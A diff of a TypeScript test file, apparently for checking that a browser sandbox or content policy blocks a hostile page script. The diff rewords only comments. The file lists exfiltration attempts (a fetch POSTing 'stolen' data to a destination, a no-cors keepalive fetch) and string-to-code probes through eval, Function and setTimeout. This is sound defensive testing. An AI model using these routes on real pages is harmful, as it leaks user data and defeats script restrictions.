@@ -1,9 +1,9 @@
-/** A script that took the page over tries to send something to `to`, which is no destination. */
+/** A script that took over the page tries to send something to `to`, which is no destination. */
 export type WayOut = (to: string) => unknown
 
 declare function append(name: string, attributes: Record<string, string>): HTMLElement
 
-/** Run in the page before any way out, which uses it. */
+/** Runs in the page first; the attempts use the function that it installs. */
 export function installAppend(): void {
   Object.assign(globalThis, {
     append: (name: string, attributes: Record<string, string>) => {
@@ -15,7 +15,7 @@ export function installAppend(): void {
   })
 }
 
-/** Each runs in the page alone, so that it names nothing outside of itself but `append`. */
+/** Each runs alone in the page, so that it may use nothing outside itself except `append`. */
 export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
   fetch: (to) => fetch(`${to}/`, { method: 'POST', body: 'stolen' }),
   'fetch without CORS': (to) => fetch(`${to}/`, { mode: 'no-cors', keepalive: true }),
@@ -80,13 +80,13 @@ export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
   },
 }
 
-/** Text that would become script; each leaves a mark where it does. */
+/** Ways to run text as script; each leaves a mark if it succeeds. */
 export const WAYS_TO_SCRIPT: Readonly<Record<string, () => unknown>> = {
   // biome-ignore lint/security/noGlobalEval: this is the attack
   eval: () => eval('globalThis.isHit = true'),
   Function: () => new Function('globalThis.isHit = true')(),
   'a timer of text': () => {
-    // What TypeScript forbids, JavaScript takes.
+    // TypeScript forbids this, but JavaScript allows it.
     const late = setTimeout as unknown as (text: string) => void
     late('globalThis.isHit = true')
   },
